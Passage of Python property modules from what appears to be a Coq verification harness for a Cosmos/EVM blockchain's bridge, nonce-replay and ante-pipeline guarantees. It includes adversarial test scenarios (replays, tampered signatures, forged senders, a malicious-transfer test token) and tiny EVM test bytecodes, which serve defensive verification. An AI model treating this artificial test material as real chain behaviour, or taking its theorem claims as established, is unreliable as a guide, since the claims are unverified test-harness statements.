        base = "ConvertCoinToEvm %s %s %s %s" % (_n(a), _den(op.get("d")), _amt(op), _n(to))
    elif k == "send_to_bank":
        base = "SendToBank %s %s %s %s" % (_n(a), _n(t), _amt(op), _n(to))
    elif k == "send_to_evm":
        base = "SendToEvm %s %s %s %s" % (_n(a), _den(op.get("d")), _amt(op), _n(to))
    elif k == "bank_msg_send":
        base = "BankMsgSend %s %s %s %s" % (_n(a), _n(to), _den(op.get("d")), _amt(op))
    elif k in WASM and (a != 5 or (k != "wasm_create_erc20" and op.get("d") is None) or int(op.get("x") or "0") < 0
                        or op.get("call_gas")):
        base = "Framed FBadArgs (SetMeta (DCoin 0%nat))"
    elif k == "wasm_convert":
        base = "WasmConvert 7%%nat %s %s %s" % (_den(op.get("d")), _amt(op), _n(to))
    elif k == "wasm_create_coin":
        base = "WasmCreateCoin 7%%nat %s" % _den(op.get("d"))
    elif k == "wasm_create_erc20":
        base = "WasmCreateErc20 7%%nat %s" % _n(t)
    elif k == "wasm_bank_send":
        base = "BankMsgSend 7%%nat %s %s %s" % (_n(to), _den(op.get("d")), _amt(op))
    elif k == "erc20_transfer":
        base = "Erc20Transfer %s %s %s %s" % (_n(a), _n(t), _n(to), _amt(op))
    elif k == "erc20_burn":
        base = "Erc20Burn %s %s %s" % (_n(a), _n(t), _amt(op))
    else:
        base = "Framed FBadArgs (SetMeta (DCoin 0%nat))"
    fr = op.get("frame") or ""
    if k in WASM and not fr and not in_seq:
        base = "Framed FBadArgs (SetMeta (DCoin 0%nat))"
    if fr:
        base = "Framed %s (%s)" % (FRAMES.get(fr, "FBadArgs"), base)
    if op.get("bad_to") and k in ("send_to_bank", "send_to_evm", "bank_msg_send"):
        # an unparsable recipient makes the precompile call fail; what the tx does with that failure is the frame's business
        if not fr:
            base = "Framed FBadArgs (%s)" % base
        else:
            base = "Framed %s (Framed FBadArgs (SetMeta (DCoin 0%%nat)))" % FRAMES.get(fr, "FBadArgs")
    if (op.get("gas") or op.get("call_gas")) and not tx_ok:
        base = "Framed FOog (%s)" % base
    return base


def _mobs(m):
    return ("{| mo_map := {| m_tok := %s; m_den := %s; m_coin := %s |}; mo_esup := %s; mo_emod := %s; mo_bsup := %s; mo_bmod := %s |}"
            % (_n(m["tok"]), _den(m["d"]), "true" if m["coin"] else "false", _z(m["esup"]), _z(m["emod"]), _z(m["bsup"]), _z(m["bmod"])))


def _mref(m):
    return "{| m_tok := %s; m_den := %s; m_coin := %s |}" % (_n(m["tok"]) if m["tok"] >= 0 else _n(9999), _den(m["d"]),
                                                              "true" if m["coin"] else "false")


def _sobs(ob):
    lkd = "; ".join("(%s, [%s])" % (_den(q["d"]), "; ".join(_mref(m) for m in q.get("m") or [])) for q in ob.get("lkd") or [])
    lkt = "; ".join("(%s, [%s])" % (_n(q["t"]), "; ".join(_mref(m) for m in q.get("m") or [])) for q in ob.get("lkt") or [])
    return ("{| so_ok := %s; so_reg := [%s]; so_tt := %s; so_ebal := [%s]; so_td := %s; so_bbal := [%s];\n"
            "        so_lkd := [%s]; so_lkt := [%s] |}" % (
        "true" if ob["ok"] else "false", "; ".join(_mobs(m) for m in ob["reg"]),
        "Some %s" % _n(ob["tt"]) if ob["tt"] >= 0 else "None", "; ".join(_z(x) for x in ob["ebal"]),
        "Some %s" % _den(ob["td"]) if ob.get("td") else "None", "; ".join(_z(x) for x in ob["bbal"]), lkd, lkt))


def to_coq_case(rec):
    items = []
    for i in range(len(rec["input"])):
        items.append("(%s,\n     %s)" % (_op(rec, i), _sobs(rec["obs"][i])))
    return "[" + ";\n    ".join(items) + "]"


def _token_kinds(rec):
    kinds = []
    for op, ob in zip(rec["input"], rec["obs"]):
        for sub in _flat(op):
            if ob["ok"] and sub["k"] == "deploy":
                kinds.append(sub.get("kind"))
            elif ob["ok"] and sub["k"] == "create_coin":
                kinds.append("minter")
    return kinds


def _mapping_of(ob, op):
    for m in ob["reg"]:
        if op["k"] == "send_to_bank" and m["tok"] == op.get("t"):
            return m
        if op["k"] in ("convert", "send_to_evm") and m["d"] == op.get("d"):
            return m
    return None


def nontrivial(rec):
    kinds = _token_kinds(rec)
    conv = 0
    fee = frame = False
    dirs = {}
    for top, ob in zip(rec["input"], rec["obs"]):
      for op in _flat(top):
        if op["k"] not in CONV or not ob["ok"]:
            continue
        m = _mapping_of(ob, op)
        if m is None:
            continue
        fr = op.get("frame") or ""
        if fr in ("inner_revert", "swallow", "once_then_reverted") or top["k"] == "seq":
            frame = True
            if fr == "inner_revert":
                continue
        conv += 1
        if m["tok"] < len(kinds) and kinds[m["tok"]] == "fee":
            fee = True
        dirs.setdefault(m["tok"], set()).add("out" if op["k"] == "send_to_bank" else "in")
    both = any(len(v) == 2 for v in dirs.values())
    return conv >= 2 and (fee or frame or both or _respelled_create(rec) or _via_wasm(rec))


def _via_wasm(rec):
    """a bridge message or bank send dispatched by a CosmWasm contract through the Wasm precompile, inside the EVM tx"""
    return any(sub["k"] in WASM for top in rec["input"] for sub in _flat(top))


def _name(d):
    return (d["k"], int(d.get("n", 0)))


def _respelled_create(rec):
    """a CreateFunToken (accepted or not) whose denom is ANOTHER spelling of a name that already has a mapping"""
    prev = []
    for top, ob in zip(rec["input"], rec["obs"]):
        for op in _flat(top):
            d = op.get("d")
            if op["k"] == "create_coin" and d and any(_name(m["d"]) == _name(d) and m["d"] != d for m in prev):
                return True
        prev = ob["reg"]
    return False


def classify(rec):
    ks = ["ops=%d" % (len(rec["input"]) // 10 * 10)]
    kinds = _token_kinds(rec)
    for op, ob in zip(rec["input"], rec["obs"]):
        tag = op["k"]
        if op.get("frame"):
            tag += "/" + op["frame"]
        if op["k"] == "seq":
            tag += "/" + "+".join(x["k"] for x in _flat(op))
        ks.append("op:" + tag)
        ks.append("%s:%s" % (op["k"], "accepted" if ob["ok"] else "rejected"))
        for sub in _flat(op):
            d = sub.get("d")
            if d and d.get("sp"):
                ks.append("spelling:%s/%s:%s" % (sub["k"], d["k"], "accepted" if ob["ok"] else "rejected"))
            if d and d["k"] == "i":
                ks.append("ibc-voucher:%s" % sub["k"])
        for sub in _flat(op):
            if sub["k"] in WASM:
                ks.append("via-wasm-precompile:%s/%s:%s" % (sub["k"], op.get("frame") or op["k"], "accepted" if ob["ok"] else "rejected"))
        if op.get("bad_to"):
            ks.append("malformed:recipient")
        if op.get("gas"):
            ks.append("lowgas:" + ("failed" if not ob["ok"] else "passed"))
        if op.get("call_gas"):
            ks.append("gas-stipend-sweep:%s:%s" % (op["k"], "failed" if not ob["ok"] else "passed"))
        if op["k"] in CONV:
            ks.append("to:" + (op.get("fmt") or "hex"))
            m = _mapping_of(ob, op)
            if m is not None and ob["ok"]:
                born = "coin" if m["coin"] else "erc20"
                kind = kinds[m["tok"]] if m["tok"] < len(kinds) else "?"
                ks.append("conv-ok:%s-born/%s" % (born, kind))
    ks.append("mappings=%d" % len(rec["obs"][-1]["reg"]) if rec["obs"] else "mappings=0")
    if _respelled_create(rec):
        ks.append("create-under-other-spelling-of-mapped-denom")
    if rec["obs"]:
        names = [_name(m["d"]) for m in rec["obs"][-1]["reg"]]
        if len(set(names)) != len(names):
            ks.append("two-spellings-of-one-name-mapped")
    return ks


def describe(rec):
    return {"input": rec["input"], "observed_last": rec["obs"][-1] if rec["obs"] else None}


def signature(rec):
    """which relation failed at the first bad observation, and after which op kind"""
    for op, ob in zip(rec["input"], rec["obs"]):
        toks = [m["tok"] for m in ob["reg"]]
        dens = [json.dumps(m["d"], sort_keys=True) for m in ob["reg"]]
        if len(set(toks)) != len(toks) or len(set(dens)) != len(dens):
            return {"kind": "duplicate-mapping", "after": op["k"], "frame": op.get("frame") or ""}
        for m in ob["reg"]:
            if m["coin"] and int(m["esup"]) > int(m["bmod"]):
                return {"kind": "coin-born-unbacked", "after": op["k"], "frame": op.get("frame") or ""}
            if not m["coin"] and int(m["bsup"]) > int(m["emod"]):
                return {"kind": "erc20-born-unbacked", "after": op["k"], "frame": op.get("frame") or ""}
    return {"kind": "none"}


def input_size(inp):
    return len(inp)


def shrink_candidates(inp):
    out = []
    n = len(inp)
    # drop halves / quarters, then single ops (token ids shift when a deploy is dropped: such candidates simply stop failing)
    for chunk in (n // 2, n // 4, 1):
        if chunk < 1:
            continue
        for i in range(0, n, chunk):
            c = inp[:i] + inp[i + chunk:]
            if c and c not in out:
                out.append(c)
    return out


MANIFEST = {
    "level_claimed": {
        "category": "proof",
        "text": ("Coq theorems over ALL histories (induction over operation lists, no bound on length, amounts, accounts or "
                 "number of mappings) of a model of the FunToken bridge — registry with both indexes, bank ledger, one ERC20 "
                 "ledger per contract with a transfer-behaviour parameter (standard, fee-on-transfer with any fee function "
                 "and sink, returns-false, too-heavy-for-the-gas-cap), CreateFunToken from coin / from ERC20, "
                 "ConvertCoinToEvm (both births), precompile sendToBank / sendToEvm / bankMsgSend, user transfers, "
                 "donations and burns, each optionally inside reverting / swallowing frames or paired with another op in one "
                 "transaction: C06_backing_invariant (after "
                 "every transaction: coin-born totalSupply <= module escrow, ERC20-born bank supply <= module ERC20 "
                 "balance, each ERC20 and denom in at most one mapping), C06_exact_backing (equality when nobody burns or "
                 "donates directly and no token pays fees to the module; fee-on-transfer allowed), C06_unique_mapping + "
                 "C06_duplicate_creation_rejected, C06_margin_never_shrinks, C06_send_to_bank_credits_measured (coins "
                 "credited = MEASURED ERC20 increase, burned/minted/released the same amount), "
                 "C06_to_evm_coin_born_credits_amount, C06_to_evm_erc20_born_margin. Denoms are strings: every letter-case "
                 "spelling of a name (IBC voucher hash in lower/upper/mixed case, UCOIN0, lower-case erc20/0x…) is a bank "
                 "denom of its own in the model; C06_guard_checks_what_is_inserted: for ANY denom-rewriting function and any "
                 "choice of which value (as given / rewritten) the index guard, the metadata lookup and the insert of "
                 "createFunTokenFromCoin use, the property holds for all histories whenever the guard looks at the value "
                 "that is inserted; C06_rewrite_after_guard_refuted: it fails when a voucher hash is case-normalised after "
                 "the guard. Messages of the EVM module dispatched by a CosmWasm contract through the Wasm precompile in the "
                 "middle of an EVM tx (WasmConvert / WasmCreateCoin / WasmCreateErc20) are operations of the histories: "
                 "C06_wasm_dispatch_refused, C06_guarded_reentry_safe (any guard configuration that marks the precompile "
                 "context and refuses on it), C06_unguarded_reentry_refuted (without the refusal a nested conversion in a "
                 "reverted frame leaves totalSupply 1100 > escrow 1000). The model is tied to /repo on every "
                 "run by executing it against the real keepers through BeginBlock/DeliverTx/EndBlock on generated "
                 "histories (embedded TestERC20, TestERC20TransferWithFee, TestERC20MaliciousTransfer, a returns-false "
                 "ERC20, a forwarder contract producing reverted sub-frames) and comparing after EVERY transaction the "
                 "registry, totalSupply, balanceOf(module), bank supply, module escrow and the actors' balances; the "
                 "proved-sound checker Pb is evaluated on the observed numbers themselves; in addition the step lists of the "
                 "seven bridge paths, the Transfer helper, the creation guards and the bank-wrapper syncs are re-extracted "
                 "from the source and must equal the lists the model's operations are proved to be (C06_paths_match_model, "
                 "C06_holds_for_current_tree, …). 12 seeded code changes "
                 "(mint amount instead of measured, forgotten burn, missing escrow, removed duplicate check, wrong "
                 "recipient, off-by-one, ignored success flag, …) are each detected; a harmless refactor is not."),
        "design_ref": "DESIGN.md §5 C06",
    },
    "level_note": ("Assumptions: ERC20s of ERC20-born mappings are 'conservative' (balances move only via transfer/burn by the "
                   "holder, sender debited exactly the amount; rebasing / owner-mint / lying balanceOf are outside the "
                   "statement, as 'standard tokens' in the property); the module account never originates calls; no other "
                   "module mints a mapped erc20/ denom; the gas coin unibi is a modelled, mappable denom and the burned CreateFunToken "
                   "fee is modelled, but gas payments are not (gas payers' unibi balances are not compared, unibi supply is "
                   "compared relative to the rest of genesis). Atomicity of reverted frames is a "
                   "definition in the model (C04 carries the theorem) and is CHECKED against the implementation on sub-frame "
                   "reverts, top-level reverts, swallowed failures and out-of-gas. Generated facts (go/ast extractor harness/gen/c06): the "
                   "ordered ledger operations of the seven bridge paths with parties and requested-vs-measured amounts, the shape "
                   "of ERC20().Transfer, the CreateFunToken guards by index, which VALUE of the denom string (as given / rewritten) the guard, "
                   "the metadata lookup and the insert of createFunTokenFromCoin use, the re-entry guards (precompile context marked; ConvertCoinToEvm / "
                   "CreateFunToken refuse on it before touching anything), the StateDB syncs of every bank wrapper; obligations "
                   "in Gen/C06Oblig.v equate them with the step lists the model's operations are proved to be. Trusted: Coq kernel + vm_compute, the Go driver and its canonicalisation, two "
                   "hand-assembled contracts (forwarder, returns-false ERC20; listings in coq/C06/README.md), check.py."),
    "technique": ("Coq proof: inductive invariant over operation histories, parametric in ERC20 transfer behaviour; "
                  "differential correspondence of the executable model against DeliverTx traces; Pb on observed traces"),
}
