"""C07 — signed EVM transactions execute at most once, in nonce order, on this chain."""
import json

ID = "C07"
GEN = "c07"
HARNESS_TEST = "TestC07"
COQ_MODEL = ["C07/Check.v", "Gen/C07Facts.v"]
COQ_PROOF_DEPS = ["C07/Proofs.v", "C07/ProofsNonvacuous.v"]
COQ_OBLIG = ["C07/Property.v", "Gen/C07Oblig.v"]
CASES_HEADER = "Require Import Nib.C07.Model Nib.C07.Spec Nib.C07.Check Nib.C07.Facts Nib.Gen.C07Facts."
CASE_TYPE = "case"
MISMATCH_FN = "mismatch evm_ante_chain"
VIOLATES_FN = "violates"
RULE = ("case = history of 1-4 blocks of 1-6 txs on fresh accounts, through BeginBlock/DeliverTx/EndBlock/Commit; a tx is a "
        "Cosmos tx carrying 0-3 MsgEthereumTx (legacy/access-list/dynamic-fee; nonce exact/gap/stale/repeated; chain id "
        "ok/wrong/absent; signature ok/zero r/zero s/high s/flipped v/v=29; transfer, call, reverting call, create, reverting "
        "create, out-of-gas create, gas below intrinsic, contract doing a surviving precompile call followed by one in a swallowed "
        "reverting frame, value-draining transfer / endowed create / endowed call that a later message "
        "of the same tx can no longer afford; or the byte-identical resubmission of an earlier message; a closing block resubmits "
        "every delivered message, optionally after re-funding) or a "
        "resubmission of a message by another key inside an ordinary Cosmos tx (bare or nested in 1-3 authz.MsgExec, From empty / "
        "forged / real signer), or a Cosmos-signed MsgSend with explicit sequence by the secp256k1 / eth_secp256k1 form of the same key; "
        "half of the histories first turn the EVM and/or Cosmos auth account of some keys into a plain BaseAccount (add-genesis-account), "
        "and a paying message (transfer, drain, call with value and calldata, inner CALL of a contract - optionally reverted -, "
        "SELFDESTRUCT beneficiary) may name one of the 8 observed accounts as counterparty, mostly a BaseAccount that has executed txs; "
        "the closing block also resubmits the Cosmos-signed txs; all 8 sequences are observed after every tx; "
        "non-trivial = a non-EthAccount account with executed txs is paid by another signer's executed message, or the history holds an accepted message AND a later rejected resubmission or stale/gapped nonce of the "
        "same signer, or a multi-message tx, or an accepted tx whose execution failed; distinct = distinct input")
ASSUMPTIONS = [
    "the address a chain-agnostic ECDSA recovery yields for a tx (go-ethereum Homestead/London signer of the tx's OWN chain id) "
    "is an oracle value computed by the driver; the model decides acceptance from it, the carried chain id and the nonce",
    "m_funded (balance/fee checks of the other decorators pass) and whether a message's value is still covered at execution are "
    "derived by the driver from bank balances (each message against the pre-tx balance; values against what earlier messages left)",
    "m_touch (scenario accounts a message pays when it runs to completion) and the auth account types (kinds) are supplied by the driver; "
    "under the proved-faithful loader the model does not depend on them, and Pb checks all 8 observed sequences after every tx",
    "vesting account types are not registered in this app (SetAccount panics), so only BaseAccount is generated as non-Eth account type",
    "uids identify transactions by their Ethereum hash (collision resistance of keccak256 is assumed by hash_binding)",
]
TRUSTED = ["go-ethereum crypto (secp256k1, keccak) used by the driver to sign, tamper and recover"]
HARNESS_TIMEOUT = {"quick": 600, "thorough": 7200}

_EXEC = {"ok": "ExecOk", "vmerr": "ExecVmErr", "msgerr": "ExecMsgErr"}


def _b(x):
    return "true" if x else "false"


def _msg(d):
    cid = "None" if d["cid"] == "none" else "(Some (%s)%%Z)" % d["cid"]
    sig = "None" if d["signer"] < 0 else "(Some %d)" % d["signer"]
    return ("{| m_uid := %d; m_nonce := %d%%N; m_cid := %s; m_sig := %s; m_funded := %s; m_exec := %s; m_create := %s; m_touch := [%s] |}"
            % (d["uid"], d["nonce"], cid, sig, _b(d["funded"]), _EXEC[d["exec"]], _b(d["create"]),
               "; ".join(str(x) for x in d.get("touch") or [])))


_KIND = {"eth": "KEth", "base": "KBase", "vest": "KVesting"}
_PSEUDO = ("fund", "acct")   # driver-side operations, not txs


def _tx(tx, der):
    if tx["kind"] == "wrap":
        # an ordinary Cosmos tx of account 10+key carrying a MsgEthereumTx: bare or one MsgExec deep it is refused
        # statically by the ante guards; deeper it passes the Cosmos ante (sequence +1) and the inner message fails
        # (the Cosmos ante also runs the stateless ValidateBasic of every nested message)
        static_reject = tx["depth"] <= 1 or not all(x.get("vbok", True) for x in (der or []))
        return "TxCosmos %d %d%%N %s false" % (10 + tx["key"] % 4, tx["q"], _b(static_reject))
    if tx["kind"] == "cosmos":
        acct = tx["key"] % 4 if tx["ethkey"] else 10 + tx["key"] % 4
        return "TxCosmos %d %d%%N %s %s" % (acct, tx["q"], _b(tx["ethkey"]), _b(not tx["bad"]))
    return "TxEth [%s]" % "; ".join(_msg(d) for d in (der or []))


def to_coq_case(rec):
    blocks = []
    for blk, dblk, oblk in zip(rec["input"], rec["der"], rec["obs"]):
        items = []
        for tx, d, o in zip(blk, dblk, oblk):
            if tx["kind"] in _PSEUDO:
                continue
            res = "{| r_accepted := %s; r_executed := [%s]; r_created := [%s] |}" % (
                _b(o["accepted"]), "; ".join(str(u) for u in o["exec"]),
                "; ".join("(%d, %s)" % (u, ("%d%%N" % k) if k >= 0 else "18446744073709551615%N") for u, k in o["created"]))
            items.append("{| o_tx := %s; o_res := %s; o_seqs := [%s] |}" % (
                _tx(tx, d), res, "; ".join("%d%%N" % s for s in o["seqs"])))
        blocks.append("[%s]" % ";\n     ".join(items))
    kinds = "; ".join(_KIND[k] for k in rec.get("kinds") or [])
    return "(((%s)%%Z, [%s]), [%s])" % (rec["chain"], kinds, ";\n    ".join(blocks))


def _ms(tx):
    return tx.get("msgs") or []


def _flat(rec):
    for blk, dblk, oblk in zip(rec["input"], rec["der"], rec["obs"]):
        for tx, d, o in zip(blk, dblk, oblk):
            if tx["kind"] in _PSEUDO:
                continue
            yield tx, (d or []), o


_SLOT = {0: 0, 1: 1, 2: 2, 3: 3, 10: 4, 11: 5, 12: 6, 13: 7}


def _touches(rec):
    """(kind of the touched account, its sequence before the tx, touched by another signer?) for every scenario
    account paid by an executed message"""
    kinds = rec.get("kinds") or ["eth"] * 8
    prev = [0] * 8
    for tx, d, o in _flat(rec):
        if tx["kind"] == "eth" and o["exec"]:
            for x in d:
                if x["exec"] != "ok":
                    continue
                for a in x.get("touch") or []:
                    if a in _SLOT:
                        yield kinds[_SLOT[a]], prev[_SLOT[a]], a != x["signer"], ("cosmos" if a >= 10 else "evm")
        prev = o["seqs"]


def nontrivial(rec):
    if any(k != "eth" and q > 0 and other for k, q, other, _ in _touches(rec)):
        return True   # an account of another auth type that has executed txs is paid by somebody else's tx
    accepted_signers = set()
    replay_rejected = False
    multi = False
    failed_exec = False
    for tx, d, o in _flat(rec):
        if tx["kind"] != "eth":
            continue
        if len(_ms(tx)) > 1 and o["accepted"]:
            multi = True
        if o["accepted"] and len(o["exec"]) < len(_ms(tx)):
            failed_exec = True
        if o["accepted"] and any(x["exec"] == "vmerr" for x in d):
            failed_exec = True
        if not o["accepted"] and any(x["signer"] in accepted_signers for x in (d or [])):
            replay_rejected = True
        if o["accepted"]:
            for x in d:
                accepted_signers.add(x["signer"])
    return replay_rejected or multi or failed_exec


def classify(rec):
    ks = ["blocks=%d" % len(rec["input"])]
    kinds = rec.get("kinds") or []
    ks.append("accounts:non-eth=%d" % sum(1 for k in kinds if k != "eth"))
    for k, q, other, side in _touches(rec):
        ks.append("paid:%s-account/%s/%s/%s" % (side, k, "seq>0" if q > 0 else "seq=0", "by-other" if other else "by-itself"))
    if any(k != "eth" and q > 0 and other for k, q, other, _ in _touches(rec)):
        ks.append("case:non-eth-account-with-history-paid-by-other")
    for tx, d, o in _flat(rec):
        if tx["kind"] == "wrap":
            ks.append("tx:wrapped-eth-msg/depth=%d/from=%s/%s" % (tx["depth"], tx["forge"] or "empty", "accepted" if o["accepted"] else "rejected"))
            continue
        if tx["kind"] == "cosmos":
            ks.append("tx:cosmos" + ("/ethkey" if tx["ethkey"] else "") + ("/accepted" if o["accepted"] else "/rejected"))
            continue
        ks.append("tx:eth/msgs=%d/%s" % (len(_ms(tx)), "accepted" if o["accepted"] else "rejected"))
        ks.append("code=%d" % o["code"])
        for m, x in zip(_ms(tx), d):
            if m["dup"] >= 0:
                ks.append("msg:resubmission")
            else:
                ks.append("msg:type=%d" % m["ty"])
                ks.append("msg:act=" + m["act"])
                if m["cid"] != "ok":
                    ks.append("msg:cid=" + m["cid"])
                if m["sig"] != "ok":
                    ks.append("msg:sig=" + m["sig"])
            if x["signer"] < 0:
                ks.append("msg:no-signer-recovered")
        if o["created"]:
            ks.append("deployed=%d" % len(o["created"]))
    return ks


def describe(rec):
    return {"input": rec["input"], "derived": rec["der"], "observed": rec["obs"], "chain": rec["chain"]}


def signature(rec):
    kinds = set()
    for tx, d, o in _flat(rec):
        if tx["kind"] == "cosmos":
            kinds.add("cosmos")
        elif tx["kind"] == "wrap":
            kinds.add("wrap")
        else:
            for m in _ms(tx):
                kinds.add("dup" if m["dup"] >= 0 else m["act"])
    return {"kind": "nonce-replay", "ops": sorted(kinds)}


def input_size(inp):
    return sum(10 + 5 * len(tx.get("msgs") or []) for b in inp for tx in b) + len(inp)


def _fix_dups(inp):
    """after dropping messages the dup indices must still point at an earlier NEW message: re-index or drop"""
    return inp


def shrink_candidates(inp):
    out = []
    # only transformations that keep 'dup' references valid: drop trailing blocks / trailing txs
    if len(inp) > 1:
        out.append(inp[:-1])
    for bi in range(len(inp) - 1, -1, -1):
        b = inp[bi]
        if len(b) > 1:
            out.append(inp[:bi] + [b[:-1]] + inp[bi + 1:])
            break
    # drop a tx without eth messages (cosmos txs never shift message indices)
    for bi, b in enumerate(inp):
        for i, tx in enumerate(b):
            if tx["kind"] in ("cosmos", "fund", "acct") and len(b) > 1:
                out.append(inp[:bi] + [b[:i] + b[i + 1:]] + inp[bi + 1:])
    # merge all blocks into one
    if len(inp) > 1:
        out.append([[tx for b in inp for tx in b]])
    return out


MANIFEST = {
    "level_claimed": {
        "category": "proof",
        "text": ("Coq theorems over ALL histories of Ethereum and Cosmos-signed txs (any blocks, duplicates, gaps, reordering, "
                 "multi-message txs, failing executions): C07_accept_iff_nonce_and_chain / C07_accept_multi_message (accepted iff "
                 "signature recovers, carried chain id is this chain's, nonce == running sequence; atomic per tx), "
                 "C07_sequence_plus_one_per_accepted (+1 per accepted message whatever execution does; the msg-server bracket "
                 "pre-execution SetNonce (creation -> n, call -> n+1 since /repo 80f60c9; or n for both) .. SetNonce(n+1) reproduces the ante value), C07_nonce_order_shared_sequence (per account the accepted "
                 "sequence numbers are s0,s0+1,... across both tx families), C07_at_most_once (no tx hash executes twice), "
                 "C07_create_address (deployed at the address of signer and TRANSACTION nonce for every pre-execution rule that resets a creation to n; C07_pre_reset_if_single_increment_refuted), C07_only_own_txs_move_sequence (a tx moves only "
                 "its signers' sequences whatever it pays/calls/selfdestructs to and whatever the auth account type - EthAccount, BaseAccount, "
                 "vesting - for every loader handing the stored sequence to the StateDB; C07_eth_only_loader_refuted for the loader that "
                 "does so for EthAccounts only; the loader of /repo is re-extracted: C07_current_loader_faithful). The model runs the decorator chain "
                 "re-extracted from NewAnteHandlerEVM on every run (C07_holds_for_current_tree) together with AST-level facts about "
                 "the nonce check, the increment, the signer construction and the msg-server bracket; it is compared with real "
                 "DeliverTx traces and the proved-sound checker Pb is evaluated on those traces."),
        "design_ref": "DESIGN.md §5 C07",
    },
    "level_note": ("Hypothesis hash_binding (equal tx hash => equal signer and nonce: keccak/RLP not modelled). ECDSA recovery, the "
                   "balance/fee decorators (m_funded) and the EVM interpreter (m_exec) are parameters of the model, supplied per "
                   "message by the driver. Trusted: Coq kernel + vm_compute, the go/ast extractor, the Go driver (go-ethereum "
                   "crypto for signing/tampering/raw recovery, ABCI event parsing), the plugin's rendering. CheckTx/mempool paths "
                   "are not driven (DeliverTx only)."),
    "technique": "Coq proof (induction over tx histories, sublist/NoDup argument) over generated ante-chain facts + differential correspondence on ABCI traces",
}
