"""C02 — an Ethereum tx message executes only behind the EVM ante pipeline."""
import json

ID = "C02"
GEN = "c02"
HARNESS_TEST = "TestC02"
COQ_MODEL = ["C02/Check.v", "Gen/C02Facts.v", "C02/Current.v", "C02/Sweep.v"]
COQ_PROOF_DEPS = ["C02/Proofs.v"]
COQ_OBLIG = ["C02/Property.v", "Gen/C02Oblig.v"]
CASES_HEADER = "Require Import Nib.C17.AnteFacts Nib.C17.MsgTree Nib.C02.Model Nib.C02.Spec Nib.C02.Check Nib.C02.Current."
CASE_TYPE = "case"
MISMATCH_FN = "mismatch current_cfg"
VIOLATES_FN = "violates"
RULE = ("case = history of 3-12 transactions on a fresh chain, each delivered in its own block through "
        "BeginBlock/DeliverTx/EndBlock/Commit: regular Ethereum txs (1-3 MsgEthereumTx, nonce ok / gap / replay, gas "
        "below intrinsic, leftover gas (limits 30k-250k), gas prices in WEI that are mostly not whole unibi per gas "
        "(legacy and dynamic-fee txs: odd prices, base fee + odd tip, odd caps, prices below the base fee down to 0), several payers "
        "in one tx, tampered signature, extra non-eth message, Cosmos signature attached); about half of the Ethereum "
        "messages are NOT plain transfers: contract creations (init code that stops / REVERTs / hits an invalid opcode / "
        "deploys code), calls of contracts that stop / REVERT / abort / read storage, calldata, values from 0 to nearly the "
        "whole balance, gas limits exactly at / just above / below what the execution needs and below the intrinsic gas, so "
        "that executions end in every way: success, REVERT, abort, out of gas (in the code, at the code deposit), refused "
        "for lack of funds for the value BEFORE the EVM touches the nonce (a poor sender whose gas prepayment at the base "
        "fee eats what the value needs; an earlier message of the same tx and sender spending it), message failure after "
        "admission; the very same signed transaction delivered again (at once and later); all three transaction TYPES — "
        "legacy, access-list (EIP-2930, empty list and one address + key), dynamic-fee — each at named prices below / at / above "
        "the base fee incl. 0 and 1 wei (type 2: fee cap below the base fee, tip = cap) with leftover gas and other payers in the "
        "same tx; the unsigned wrapper fee is filled in with the code's own EffectiveFeeWei as the JSON-RPC layer does; eth leaves "
        "whose unsigned From field names the tx signer / an exec grantee / the contract; Cosmos txs "
        "whose message trees (depth <= 5: authz MsgExec with self/grant authority, reflect.wasm Stargate dispatch, gov "
        "MsgSubmitProposal) carry a MsgEthereumTx, MsgGrant for the eth type, sends; Cosmos txs signed with an "
        "eth_secp256k1 key (probe of Hsig); bare MsgEthereumTx without extension option; unknown extension option; "
        "non-trivial = an Ethereum message sits under at least one wrapper, or a tx is signed with an eth key, or the "
        "extension option does not fit the content, or an EVM tx has several messages, or an EVM-route message is a "
        "creation / contract call / carries a non-default value, or a signed tx is delivered twice; distinct = distinct input")
ASSUMPTIONS = [
    "Hdisj: an address recovered from an Ethereum signature (keccak) never equals a secp256k1/multisig, module, contract or interchain-account address (world hypothesis of the theorems)",
    "Hsig: the Cosmos signature path never accepts an eth_secp256k1 key — tied to the generated fact SigGasConsumer = DefaultSigVerificationGasConsumer inside SigGasConsumeDecorator, and PROBED on every run (Cosmos txs signed with an eth key must be rejected)",
    "the EVM interpreter is not modelled: an Ethereum message carries a descriptor (call / creation, intrinsic gas, gas the code needs, ends in stop / REVERT / abort); what depends on the chain state (can the sender pay the value, is the gas limit enough) is computed by the model; the harness drives ten fixed programs whose descriptors are written out in tools/props/c02.py (PROGS) and checked against the gas used / VM error reported by EventEthereumTx on every run",
    "the ICA host path is in the model (theorems cover it) but is not driven by the harness",
]
TRUSTED = [
    "harness/gen/c17/antefacts (go/ast), shared with C17: decorator lists, extension-option switch arms, registered extension options, guard type tests, wasm handler checks, installed SigGasConsumer",
    "harness/gen/c02/applynonce.go (go/ast): abstract interpretation of Keeper.ApplyEvmMsg (same-package helpers entered) for the sender-nonce writes around evm.Call / evm.Create",
]


def _z(s):
    return "(%d)%%Z" % int(s)


# what an Ethereum message asks of the EVM — mirrors `progs` in harness/c02/c02_test.go:
# name -> (creation?, calldata / init code (hex), gas the code needs to reach its end, how it ends)
PROGS = {
    "": (False, "", 0, "XStop"),
    "t-data": (False, "00ff00ff", 0, "XStop"),
    "c-stop": (True, "00", 0, "XStop"),
    "c-revert": (True, "60006000fd", 6, "XRevert"),
    "c-invalid": (True, "fe", 0, "XInvalid"),
    "c-deploy": (True, "6460006000fd6000526005601bf3", 1018, "XStop"),
    "k-stop": (False, "", 0, "XStop"),
    "k-revert": (False, "", 6, "XRevert"),
    "k-invalid": (False, "", 0, "XInvalid"),
    "k-sload": (False, "01", 2105, "XStop"),
}


def _intrinsic(create, data_hex):
    bs = bytes.fromhex(data_hex)
    return 21000 + (32000 if create else 0) + sum(4 if b == 0 else 16 for b in bs)


TY_INTRINSIC = {"": 0, "al": 0, "al1": 2400 + 1900}  # access list: 2400 per address + 1900 per storage key


def _ty(n):
    if n.get("cap"):
        return "TDynamic"
    return "TAccess" if n.get("ty") else "TLegacy"


def _xinfo(n):
    create, data, ex, out = PROGS[n.get("prog", "")]
    cap = n.get("cap") or n.get("price") or "1000000000000"
    raw = "(raw_dynamic %s %s)" % (_z(n["cap"]), _z(n.get("tip") or "0")) if n.get("cap") else _z(cap)
    return "{| x_kind := %s; x_ty := %s; x_raw := %s; x_cap := %s; x_intr := %s; x_exec := %s; x_out := %s |}" % (
        "XCreate" if create else "XCall", _ty(n), raw, _z(cap), _z(_intrinsic(create, data) + TY_INTRINSIC[n.get("ty", "")]), _z(ex), out)


def _val(n):
    v = n.get("val")
    return _z(v if v not in (None, "") else "1")


